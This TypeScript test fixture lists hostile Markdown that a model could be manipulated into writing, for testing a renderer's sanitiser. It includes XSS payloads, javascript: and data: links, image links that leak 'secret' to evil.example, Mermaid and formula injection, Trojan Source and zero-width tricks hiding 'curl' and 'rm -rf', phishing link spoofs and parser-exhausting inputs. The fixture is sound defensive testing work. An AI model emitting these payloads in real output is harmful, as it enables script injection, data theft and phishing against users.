/** Markdown as a model could be made to write it by somebody who wants harm. Grows with each idea; nothing leaves. */
type Hostile = { name: string; text: string }

const scripts: Hostile[] = [
  { name: 'script', text: '<script>window.pwned = true</script>' },
  { name: 'script in text', text: 'a <script>window.pwned = true</script> b' },
  { name: 'image handler', text: '<img src=x onerror="window.pwned = true">' },
  { name: 'svg handler', text: '<svg onload="window.pwned = true"><a href="javascript:window.pwned=true">x</a></svg>' },
  { name: 'math handler', text: '<math><mtext><style><img src=x onerror=window.pwned=true></style></mtext></math>' },
  { name: 'frame', text: '<iframe srcdoc="<script>parent.pwned = true</script>"></iframe>' },
  {
    name: 'object',
    text: '<object data="data:text/html,<script>window.pwned=true</script>"></object><embed src="//evil.example">',
  },
  {
    name: 'form',
    text: '<form action="https://evil.example"><button formaction="javascript:window.pwned=true">x</button></form>',
  },
  { name: 'style', text: '<style>body { display: none; background: url(https://evil.example/css) }</style>' },
  {
    name: 'style attribute',
    text: '<div style="position:fixed;inset:0;background:url(https://evil.example/a)">x</div>',
  },
  {
    name: 'base and refresh',
    text: '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
  { name: 'link', text: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'comment', text: '<!-- --><script>window.pwned = true</script> <!--' },
  { name: 'unclosed tag', text: '<img src="https://evil.example/?\n\nsecret text\n\n">' },
  { name: 'script in a cell', text: '| a |\n|---|\n| <img src=x onerror=window.pwned=true> |' },
  { name: 'script in a heading', text: '# <script>window.pwned = true</script>' },
  { name: 'script in a label', text: '```"><script>window.pwned=true</script>\nx\n```' },
  {
    name: 'prototype',
    text: '[__proto__]: https://evil.example\n[constructor]: javascript:x\n\n[__proto__] [constructor] [toString]',
  },
]

const links: Hostile[] = [
  { name: 'javascript', text: '[x](javascript:window.pwned=true)' },
  { name: 'javascript in capitals', text: '[x](JaVaScRiPt:window.pwned=true)' },
  { name: 'javascript with a tab', text: '[x](<java\tscript:window.pwned=true>)' },
  { name: 'javascript in entities', text: '[x](&#106;avascript&colon;window.pwned=true)' },
  { name: 'javascript after a control', text: '[x](<\u0001javascript:window.pwned=true>)' },
  { name: 'javascript by reference', text: '[x][r]\n\n[r]: javascript:window.pwned=true' },
  { name: 'javascript as an autolink', text: '<javascript:window.pwned=true>' },
  { name: 'vbscript', text: '[x](vbscript:msgbox)' },
  { name: 'data', text: '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9dHJ1ZTwvc2NyaXB0Pg==)' },
  { name: 'data image', text: '![x](data:image/svg+xml,<svg onload="window.pwned=true"/>)' },
  { name: 'blob and file', text: '[x](blob:https://a/b) [y](file:///etc/passwd) [z](intent://x)' },
  { name: 'this site', text: '[x](/api/auth/sign-out) [y](//evil.example) ![z](/api/conversations)' },
  { name: 'attribute in a title', text: '[x](https://a.example "\\" onmouseover=\\"window.pwned=true")' },
  { name: 'attribute in an address', text: '[x](https://a.example/"onmouseover="window.pwned=true)' },
  { name: 'another host in the text', text: '[https://bank.example/login](https://evil.example/login)' },
  { name: 'reversed text', text: '[\u202Emoc.elpmaxe.knab//:sptth\u202C](https://evil.example)' },
  { name: 'zero-width text', text: '[bank\u200B.example](https://evil.example)' },
]

const requests: Hostile[] = [
  { name: 'image', text: '![x](https://evil.example/?q=secret)' },
  { name: 'image by reference', text: '![x][i]\n\n[i]: https://evil.example/?q=secret' },
  { name: 'image in a link', text: '[![x](https://evil.example/?q=secret)](https://evil.example)' },
  { name: 'image in an image', text: '![![x](https://evil.example/1)](https://evil.example/2)' },
  { name: 'image in a cell', text: '| a |\n|---|\n| ![x](https://evil.example/?q=secret) |' },
  { name: 'image without a protocol', text: '![x](//evil.example/?q=secret)' },
]

const formulas: Hostile[] = [
  { name: 'formula link', text: '$$\\href{javascript:window.pwned=true}{x}$$' },
  { name: 'formula image', text: '$$\\includegraphics{https://evil.example/x.png}$$' },
  { name: 'formula HTML', text: '$$\\htmlStyle{background:url(https://evil.example)}{x} \\htmlData{a=b}{y}$$' },
  { name: 'formula bomb', text: '$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$$' },
  { name: 'formula script', text: '$$\\text{<script>window.pwned=true</script>}$$' },
  { name: 'formula deep', text: `$$${'{'.repeat(2_000)}x${'}'.repeat(2_000)}$$` },
  { name: 'formula huge', text: '$$\\rule{100000em}{100000em}$$' },
]

const diagrams: Hostile[] = [
  {
    name: 'diagram click',
    text: '```mermaid\ngraph TD\n  A-->B\n  click A "javascript:window.pwned=true"\n  click B call alert()\n```',
  },
  {
    name: 'diagram HTML',
    text: '```mermaid\ngraph TD\n  A["<img src=x onerror=parent.pwned=true>"]-->B["<script>parent.pwned=true</script>"]\n```',
  },
  {
    name: 'diagram directive',
    text: '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<iframe src=https://evil.example>"]\n```',
  },
  {
    name: 'diagram style',
    text: '```mermaid\n%%{init: {"themeCSS": "* { background: url(https://evil.example/css) }"}}%%\ngraph TD\n  A-->B\n```',
  },
  { name: 'diagram image', text: '```mermaid\ngraph TD\n  A@{ img: "https://evil.example/x.png", w: 60, h: 60 }\n```' },
]

const concealed: Hostile[] = [
  { name: 'Trojan Source', text: '```js\nif (level != "user\u202E \u2066// admin\u2069 \u2066") {\n```' },
  { name: 'zero-width in code', text: 'Run `rm\u200B -rf` and\n\n```sh\ncurl\uFEFF evil\u2060.example\n```' },
  { name: 'tags', text: 'Hello\u{E0041}\u{E0042} `x\u{E0041}`' },
  { name: 'overrides never closed', text: `${'\u202E\u2067'.repeat(500)}text\n\nnext` },
]

const big: Hostile[] = [
  { name: 'line of 1 MB', text: 'x'.repeat(1_000_000) },
  { name: 'line of 1 MB of words', text: 'word '.repeat(200_000) },
  { name: 'line of 1 MB of code', text: `\`\`\`js\n${'x'.repeat(1_000_000)}\n\`\`\`` },
  { name: 'paragraph', text: 'some words in a line\n'.repeat(10_000) },
  { name: 'list', text: '- item\n'.repeat(20_000) },
  { name: 'table', text: `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(10_000)}` },
  {
    name: 'wide table',
    text: `${'|a'.repeat(1_900)}|\n${'|-'.repeat(1_900)}|\n${`${'|b'.repeat(1_900)}|\n`.repeat(5)}`,
  },
  { name: 'deep quotation', text: `${'>'.repeat(10_000)} x` },
  { name: 'deep quotation with spaces', text: `${'> '.repeat(10_000)}x` },
  { name: 'deep list', text: `${'- '.repeat(10_000)}x` },
  { name: 'deep numbered list', text: `${'1. '.repeat(10_000)}x` },
  {
    name: 'deep list by indentation',
    text: Array.from({ length: 10_000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`)
      .join('\n')
      .slice(0, 400_000),
  },
  { name: 'deep mixture', text: `${'> - 1. '.repeat(3_000)}x` },
  { name: 'deep emphasis', text: '**a *b '.repeat(5_000) },
  { name: 'deep emphasis that closes', text: `${'*a '.repeat(5_000)}${'b* '.repeat(5_000)}` },
  { name: 'deep links', text: `${'['.repeat(10_000)}x${'](https://a.example)'.repeat(10_000)}` },
  { name: 'deep images', text: `${'!['.repeat(10_000)}x` },
  { name: 'backticks', text: Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join(' ') },
  { name: 'brackets', text: '[a]('.repeat(10_000) },
  { name: 'angles', text: '<'.repeat(20_000) },
  { name: 'underscores', text: '_a'.repeat(20_000) },
  { name: 'tildes', text: '~~a '.repeat(10_000) },
  { name: 'addresses', text: `${'a'.repeat(20_000)}@${'b.'.repeat(10_000)}` },
  { name: 'ampersands', text: '&#'.repeat(20_000) },
  { name: 'pipes', text: '|'.repeat(20_000) },
  { name: 'backslashes', text: '\\'.repeat(20_000) },
  { name: 'spaces', text: `a${' '.repeat(50_000)}b` },
  { name: 'blank lines', text: `a${'\n'.repeat(200_000)}b` },
  { name: 'definitions', text: '[a]: https://a.example\n'.repeat(5_000) },
  { name: 'lone surrogates', text: '\uD800'.repeat(5_000) },
  { name: 'carriage returns', text: 'a\r'.repeat(5_000) },
  { name: 'nulls', text: '\u0000'.repeat(5_000) },
]

export const hostileMarkdown: readonly Hostile[] = [
  ...scripts,
  ...links,
  ...requests,
  ...formulas,
  ...diagrams,
  ...concealed,
  ...big,
]
